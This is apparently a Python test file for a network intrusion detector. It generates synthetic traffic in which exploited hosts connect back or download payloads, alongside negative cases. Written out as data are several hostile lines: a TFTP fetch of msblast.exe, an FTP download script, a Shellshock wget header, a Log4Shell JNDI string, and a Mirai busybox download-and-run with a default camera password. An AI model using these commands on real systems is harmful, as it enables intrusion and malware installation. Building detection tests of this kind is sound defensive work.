# SPDX-License-Identifier: GPL-2.0-or-later
"""What a victim did after a break-in, and what it did without one."""
import struct

import flows
import protocols as proto
import sig_base
from cause_base import DOWN, UP, Scenarios, after, drop, executable, maybe, ordered, url
from cause_relay import comma
from sig_attacks import LEAVES, LONG, rpc

scenario = Scenarios()
PATH = rpc(31, LEAVES)  # MS08-067
ACTIVATION = rpc(4, b"\0" * 40 + LONG, port=135)  # MS03-026


def attacked(s, victim, attacker, port=445, message=PATH):
    """The frame of the exploit."""
    link = s.connect(victim, port, host=attacker)
    return link.say(UP, message)


def tftp(s, server, name, *causes, **options):
    """The victim fetches NAME; all from the server's port 69. The mark of the last block."""
    client, body = (s.host, next(s.ports)), options.get("body", proto.pe(1500))
    s.send(client, (server, 69), proto.tftp_read(name), *causes)
    done = None
    for number in range(len(body) // 512 + 1):
        block = proto.tftp_data(number + 1, body[number * 512 : number * 512 + 512])
        done = s.send((server, 69), client, block)
        s.send(client, (server, 69), proto.tftp_ack(number + 1))
    return done


def written(s, victim, attacker, data):
    """SMB2: DATA (at most one segment) into a file of a share. The mark of the write."""
    link = s.connect(victim, 445, host=attacker)
    guid, handle = b"\x11" * 16, b"\x22" * 16
    ask = struct.pack("<HHHHI16sQH", 36, 1, 1, 0, 0, guid, 0, 0x0202)
    link.say(UP, proto.smb2(proto.SMB2_NEGOTIATE, 0, ask))
    told = (65, 1, 0x0202, 0, guid, 7, *[65536] * 3, 0, 0, 128, 0, 0)
    link.say(DOWN, proto.smb2(0, 0, struct.pack("<HHHH16sIIIIQQHHI", *told), True))
    link.say(UP, sig_base.smb2_tree("\\\\%s\\data" % victim))
    tree = struct.pack("<HBBIII", 16, 1, 0, 0, 0, 0x1F01FF)
    link.say(DOWN, proto.smb2(proto.SMB2_TREE, 1, tree, True))
    link.say(UP, sig_base.smb2_create("setup.dat"))
    opened = struct.pack("<HBBI4QQQII", 89, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0x80, 0)
    opened += handle + struct.pack("<II", 0, 0)
    link.say(DOWN, proto.smb2(proto.SMB2_CREATE, 2, opened, True))
    write = link.say(UP, sig_base.smb2_write(data))
    answer = struct.pack("<HHIIHH", 17, 0, len(data), 0, 0, 0) + b"\0"
    link.say(DOWN, proto.smb2(9, 3, answer, True))
    close = link.say(UP, proto.smb2(proto.SMB2_CLOSE, 4, struct.pack("<HHI16s", 24, 0, 0, handle)))
    link.close()
    return write, close


def shell_back(s, target, port, *causes):
    """The victim connects and speaks."""
    link = s.connect(target, port, *causes)
    link.say(UP, b"\0\1hello\n")
    link.say(DOWN, b"\0\2ok\n")
    return link


@scenario
def drop_connects_back(s):
    """An exploit against port 445; the victim connects back to the attacker."""
    begin = s.mark()
    hit = attacked(s, s.host, s.out(7))
    link = shell_back(s, s.out(7), 9988, drop(hit))
    s.root(link.start, begin)


@scenario
def drop_connects_back_inside(s):
    """Attacker and victim are neighbours."""
    hit = attacked(s, s.host, s.other)
    s.wait(1)
    shell_back(s, s.other, 5554, drop(hit))


@scenario
def drop_tftp(s):
    """An exploit, a shell on port 4444, in it the order to fetch a file by TFTP."""
    hit = attacked(s, s.host, s.out(7), 135, ACTIVATION)
    shell = s.connect(s.host, 4444, host=s.out(7))
    shell.say(DOWN, b"Microsoft Windows 2000 [Version 5.00.2195]\r\n\r\nC:\\WINNT\\system32>")
    line = shell.say(UP, b"tftp -i %s GET msblast.exe\r\n" % s.out(7).encode())
    tftp(s, s.out(7), "msblast.exe", ordered(line), maybe(drop(hit)))


@scenario
def drop_tftp_without_shell(s):
    """An exploit whose code itself fetches the file by TFTP."""
    hit = attacked(s, s.host, s.out(7))
    s.wait(0.5)
    tftp(s, s.out(7), "bling.exe", drop(hit))


@scenario
def drop_ftp_script(s):
    """A shell in which a script for FTP is written; the victim fetches by it."""
    hit = attacked(s, s.host, s.out(7))
    shell = s.connect(s.host, 9996, host=s.out(7))
    words = "cmd /k echo open %s 5554 > o&echo user 1 1 >> o &echo get x.exe >> o &ftp -n -s:o\r\n"
    line = shell.say(UP, (words % s.out(7)).encode())
    control = s.connect(s.out(7), 5554, ordered(line), maybe(drop(hit)))
    control.say(DOWN, b"220 OK\r\n")
    control.say(UP, b"USER 1\r\n")
    control.say(DOWN, b"331 OK\r\n")
    control.say(UP, b"PASS 1\r\n")
    control.say(DOWN, b"230 OK\r\n")
    told = control.say(UP, b"PORT %s\r\n" % comma(s.host, 1099))
    control.say(DOWN, b"200 OK\r\n")
    control.say(UP, b"RETR x.exe\r\n")
    transfer = s.connect(s.host, 1099, url(told), host=s.out(7))
    transfer.say(UP, proto.pe(4000))
    transfer.close()


@scenario
def drop_http(s):
    """An exploit; the victim fetches the file by HTTP from a third host that nothing named."""
    hit = attacked(s, s.host, s.out(7))
    s.wait(1)
    s.fetch("http://%s/a.exe" % s.out(8), s.out(8), drop(hit), answer=executable())


@scenario
def drop_http_named(s):
    """Shellshock: the request itself names what the victim then fetches."""
    words = "() { :;}; /bin/bash -c 'wget http://%s/m -O /tmp/m'" % s.out(8)
    message = sig_base.request("/cgi-bin/status", headers={"Cookie": words, "Referer": None})
    hit = attacked(s, s.host, s.out(7), 80, message)
    s.fetch("http://%s/m" % s.out(8), s.out(8), ordered(hit))


@scenario
def drop_look_up_named(s):
    """Log4Shell: the victim asks the directory server that the request names."""
    words = "${jndi:ldap://%s:1389/a}" % s.out(8)
    message = sig_base.request("/", headers={"X-Api-Version": words, "Referer": None})
    hit = attacked(s, s.host, s.out(7), 8080, message)
    link = s.connect(s.out(8), 1389, ordered(hit))
    link.say(UP, bytes.fromhex("300c020101600702010304008000"))
    link.say(DOWN, bytes.fromhex("300c02010161070a010004000400"))


@scenario
def drop_device(s):
    """A login on a camera whose lines fetch the bot."""
    shell = s.connect(s.host, 23, host=s.out(7))
    shell.say(DOWN, b"login: ")
    login = shell.say(UP, b"root\r\nxc3511\r\n")
    probe = shell.say(UP, b"/bin/busybox ECCHI\r\n")
    shell.say(DOWN, b"ECCHI: applet not found\r\n")
    order = "/bin/busybox wget http://%s/bins/mirai.arm -O - > dvr; ./dvr\r\n" % s.out(8)
    line = shell.say(UP, order.encode())
    others = [maybe(drop(login)), maybe(drop(probe))]
    s.fetch("http://%s/bins/mirai.arm" % s.out(8), s.out(8), ordered(line), *others)


@scenario
def drop_smb_write(s):
    """An executable is written to a share; the host connects back to where it came from."""
    write, close = written(s, s.host, s.out(7), proto.pe(1024))
    s.wait(2)
    shell_back(s, s.out(7), 8080, drop(write, close), maybe(after(write, close)))


@scenario
def drop_ftp_write(s):
    """An executable is stored by FTP; the host connects back."""
    control = s.connect(s.host, 21, host=s.out(7))
    control.say(DOWN, b"220 ready\r\n")
    control.say(UP, b"USER a\r\n")
    control.say(DOWN, b"331 password\r\n")
    control.say(UP, b"PASS a\r\n")
    control.say(DOWN, b"230 in\r\n")
    control.say(UP, b"PASV\r\n")
    told = control.say(DOWN, b"227 Entering Passive Mode (%s)\r\n" % comma(s.host, 50002))
    store = control.say(UP, b"STOR a.exe\r\n")
    transfer = s.connect(s.host, 50002, url(told), host=s.out(7))
    data = transfer.say(UP, proto.pe(1024))
    end = s.mark()
    transfer.close()
    s.wait(1)
    where = (data, end, end + 1, end + 2, end + 3)
    shell_back(s, s.out(7), 8080, drop(store, *where), maybe(after(*where)))


@scenario
def drop_two_victims(s):
    """Two hosts are attacked by two others; each connects back to its own attacker."""
    one = attacked(s, s.host, s.out(7))
    two = attacked(s, s.other, s.out(8))
    link = s.connect(s.out(8), 9988, drop(two), host=s.other)
    link.say(UP, b"\0\1hello\n")
    shell_back(s, s.out(7), 9988, drop(one))


@scenario
def drop_spreads(s):
    """The victim fetches the worm, then attacks a neighbour, which connects back to it in turn."""
    hit = attacked(s, s.host, s.out(7))
    done = tftp(s, s.out(7), "bling.exe", drop(hit))
    s.wait(2)
    spread = s.connect(s.other, 445, after(done))
    second = spread.say(UP, PATH)
    link = s.connect(s.host, 9988, drop(second), host=s.other)
    link.say(UP, b"\0\1hello\n")
    s.first(link.start, second)


# --- what is none ---------------------------------------------------------------------------------


@scenario
def drop_after_window(s):
    """The connection back comes 50 seconds after the exploit."""
    attacked(s, s.host, s.out(7))
    s.wait(50)
    shell_back(s, s.out(7), 9988)


@scenario
def drop_no_exploit(s):
    """An ordinary request to a server in the house; the server connects to the client later."""
    link = s.connect(s.host, 80, host=s.out(7))
    link.say(UP, sig_base.request("/", headers={"Referer": None}))
    link.say(DOWN, sig_base.response(b"hello"))
    link.close()
    s.wait(1)
    shell_back(s, s.out(7), 9988)


@scenario
def drop_ident(s):
    """A chat server asks back at port 113 who is there: nobody breaks in."""
    chat = s.connect(s.out(9), 6667)
    ident = s.connect(s.host, 113, host=s.out(9))
    ident.say(UP, b"1040, 6667\r\n")
    ident.say(DOWN, b"1040, 6667 : USERID : UNIX : visitor\r\n")
    ident.close()
    chat.say(UP, b"NICK visitor\r\nUSER visitor 0 * :A Visitor\r\n")
    chat.say(DOWN, b":irc.example.org 001 visitor :Welcome\r\n")
    s.wait(1)
    s.connect(s.out(9), 6668).say(UP, b"NICK visitor2\r\nUSER visitor2 0 * :A Visitor\r\n")


@scenario
def drop_attacker_returns(s):
    """After the exploit the attacker opens the shell on the victim: that is no connection back."""
    attacked(s, s.host, s.out(7))
    s.wait(1)
    shell = s.connect(s.host, 4444, host=s.out(7))
    shell.say(DOWN, b"C:\\WINNT\\system32>")
    shell.say(UP, b"dir\r\n")


@scenario
def drop_other_victim(s):
    """One host is attacked, its neighbour connects to the attacker."""
    attacked(s, s.host, s.out(7))
    s.wait(1)
    s.connect(s.out(7), 9988, host=s.other).say(UP, b"\0\1hello\n")


@scenario
def drop_elsewhere(s):
    """After the exploit the victim goes on with its own business: TLS to a third host."""
    attacked(s, s.host, s.out(7))
    s.wait(1)
    s.tls("mail.home.example", s.out(8))


@scenario
def drop_text_written(s):
    """A text is written to a share; the host connects to the writer."""
    written(s, s.host, s.out(7), b"Dear colleagues, the minutes of today\r\n" * 20)
    s.wait(2)
    shell_back(s, s.out(7), 8080)


@scenario
def drop_before(s):
    """The host had connected to the attacker before it was attacked."""
    shell_back(s, s.out(7), 9988)
    s.wait(1)
    attacked(s, s.host, s.out(7))


@scenario
def drop_slammer(s):
    """A worm's datagram; the victim does nothing."""
    message = (b"\x04" + b"\x01" * 96 + b"h.dllhel32hkernQhounthickChGet").ljust(376, b"\1")
    flows.datagram(s.capture, s.now, ((s.out(7), 4000), (s.host, 1434)), message)
    s.wait(3)
    s.tls("mail.home.example", s.out(8))
